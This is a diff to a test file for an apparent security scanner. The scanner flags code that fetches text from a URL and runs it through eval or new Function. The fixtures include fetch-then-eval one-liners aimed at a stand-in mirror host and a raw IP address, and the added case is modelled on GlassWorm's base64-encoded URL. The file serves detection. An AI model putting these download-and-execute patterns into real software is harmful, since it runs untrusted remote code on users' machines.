@@ -1514,6 +1514,12 @@ describe('dynamic-code-execution of downloaded code', () => {
     expect(sink('lib/helper.js', ["fetch('https://cdn-pkg-mirror.dev/init.js').then((r) => r.text()).then((t) => eval(t));"])?.severity).toBe('high');
     expect(sink('lib/helper.js', ["fetch('http://45.77.12.9/init.js').then((r) => r.text()).then((t) => eval(t));"])?.title).toContain('suspicious source');
   });
+  it('the text of a response fetched from a URL in a variable, run by eval in the hunk, is high (GlassWorm read its URL from a blockchain memo)', () => {
+    expect(sink('src/extension.js', ['  const url = Buffer.from(memo, "base64").toString();', '  const code = await (await fetch(url)).text();', '  eval(code);'])?.severity).toBe('high');
+    expect(sink('src/loader.js', ['fetch(source).then((r) => r.text()).then((t) => new Function(t)());'])?.severity).toBe('high');
+    expect(sink('src/page.js', ['const html = await (await fetch(url)).text();', 'const total = eval(expression);'])?.severity).toBe('high');
+    expect(sink('src/page.js', ['const data = await (await fetch(url)).json();', 'const total = eval(expression);'])?.severity).toBe('medium');
+  });
   it('eval without a download in its hunk keeps its ordinary severity; a download without a code sink is no finding', () => {
     expect(sink('pkg/helper.py', ['exec(compile(source, path, "exec"))'])?.severity).toBe('medium');
     expect(sink('pkg/client.py', ["data = requests.get('https://api.example.com/v1/items').json()"])).toBeUndefined();
